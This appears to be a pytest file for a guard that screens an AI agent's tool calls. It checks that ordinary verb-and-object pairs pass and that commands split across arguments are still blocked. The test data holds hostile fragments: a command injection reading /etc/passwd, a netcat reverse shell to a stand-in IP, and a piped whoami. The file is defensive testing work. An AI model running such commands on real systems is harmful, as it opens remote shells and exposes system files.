"""Ordinary calls of two values, a verb and its object, are no attack however their words are put together."""

from __future__ import annotations

from contextlib import closing
from itertools import product
from pathlib import Path

import pytest

from aegis.core.call import ToolCall
from support.deployments import deployment

VERBS = [
    "make", "read", "show", "stat", "list", "get", "start", "stop", "query", "select", "insert", "search", "grep",
    "cat", "ls", "head", "tail", "copy", "move", "link", "join", "split", "paste", "watch", "print", "install",
    "add", "apply", "patch", "test", "run", "open", "create", "diff", "log", "pull", "fetch", "clone", "docker",
    "kubectl", "git", "npm", "pip", "python", "node", "history", "alias", "free", "kill", "top", "id", "env", "date",
    "echo", "sleep", "ping", "curl", "wget", "ssh", "tar", "sort", "wc", "cut", "mkdir", "rm", "chmod", "df",
    "upload", "download", "type",
]  # fmt: skip
OBJECTS = (
    "/srv/app/main.py", "/home/ada/notes.txt", "-v", "--all", "README.md", "src/index.ts", "42", "*.py",
    "https://example.com/a?b=c", "C:\\Users\\ada\\doc.txt", "hello world", "ada@example.com",
)  # fmt: skip


@pytest.mark.parametrize("names", [("operation", "path"), ("command", "cwd"), ("action", "url")])
def test_a_verb_and_its_object_pass(tmp_path: Path, names: tuple[str, str]) -> None:
    with closing(deployment(tmp_path / "home")) as place:
        stopped = [
            pair
            for pair in product(VERBS, OBJECTS)
            if not place.gate.decide(ToolCall(tool="do_it", arguments=dict(zip(names, pair, strict=True)))).allowed
        ]
    assert stopped == []


def test_a_command_that_is_cut_inside_of_its_words_is_still_found(tmp_path: Path) -> None:
    with closing(deployment(tmp_path / "home")) as place:
        for first, second in (("x; ca", "t /etc/passwd"), ("nc -e /bin", "/sh 198.51.100.7"), ("x | who", "ami")):
            decision = place.gate.decide(ToolCall(tool="do_it", arguments={"a": first, "b": second}))
            assert not decision.allowed, (first, second)
